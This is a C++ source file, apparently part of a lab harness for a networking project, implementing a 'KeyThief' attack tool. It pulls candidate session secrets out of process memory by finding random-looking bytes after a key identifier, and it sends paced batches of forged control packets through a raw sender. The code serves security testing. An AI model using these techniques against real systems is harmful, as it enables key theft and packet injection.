#include "app/lab/tools/key_thief.h"

#include <algorithm>
#include <cstring>
#include <set>

namespace netpas::lab {
namespace {

constexpr size_t secretSize = std::tuple_size_v<TagKey>;
constexpr size_t batch = 64;
constexpr auto betweenBatches = std::chrono::milliseconds(2);  // no queue on the way is filled

// Sixteen random bytes have fewer than nine different ones about once in 10⁸ times.
bool looksRandom(const Pattern& bytes) { return std::set<uint8_t>(bytes.begin(), bytes.end()).size() > secretSize / 2; }

}  // namespace

std::vector<TagKey> secretsBehind(const ProcessMemory& memory, SessionKeyId key) {
    const uint32_t number = key.value();
    Pattern pattern(sizeof number);
    std::memcpy(pattern.data(), &number, pattern.size());
    std::set<Pattern> candidates;
    for (const Pattern& bytes : memory.behind(pattern, secretSize)) {
        if (looksRandom(bytes)) candidates.insert(bytes);
    }
    std::vector<TagKey> secrets(candidates.size());
    size_t i = 0;
    for (const Pattern& bytes : candidates) std::copy(bytes.begin(), bytes.end(), secrets[i++].begin());
    return secrets;
}

Expected<std::unique_ptr<KeyThief>> KeyThief::start(const std::string& netns, AttackPlan plan, uint64_t seed) {
    auto sender = RawSender::open(netns, plan.attacker.isV6());
    if (!sender) return tl::unexpected(sender.error());
    std::unique_ptr<KeyThief> thief(new KeyThief(std::move(plan), seed));
    thief->m_sender = std::move(*sender);
    return thief;
}

void KeyThief::pay(uint64_t packets) {
    while (packets > 0) {
        m_last.clear();
        for (; packets > 0 && m_last.size() < batch; --packets) m_last.push_back(m_forge.control());
        repeat();
        if (packets > 0) std::this_thread::sleep_for(betweenBatches);
    }
}

void KeyThief::repeat() {
    for (const Datagram& datagram : m_last) m_sent += m_sender->add(datagram) ? 1U : 0U;
    m_sender->flush();
}

void KeyThief::goOn() {
    m_stop = false;
    m_thread = std::thread([this] {
        while (!m_stop) {
            pay(1);
            std::this_thread::sleep_for(std::chrono::milliseconds(1));
        }
    });
}

void KeyThief::stop() {
    m_stop = true;
    if (m_thread.joinable()) m_thread.join();
}

}  // namespace netpas::lab
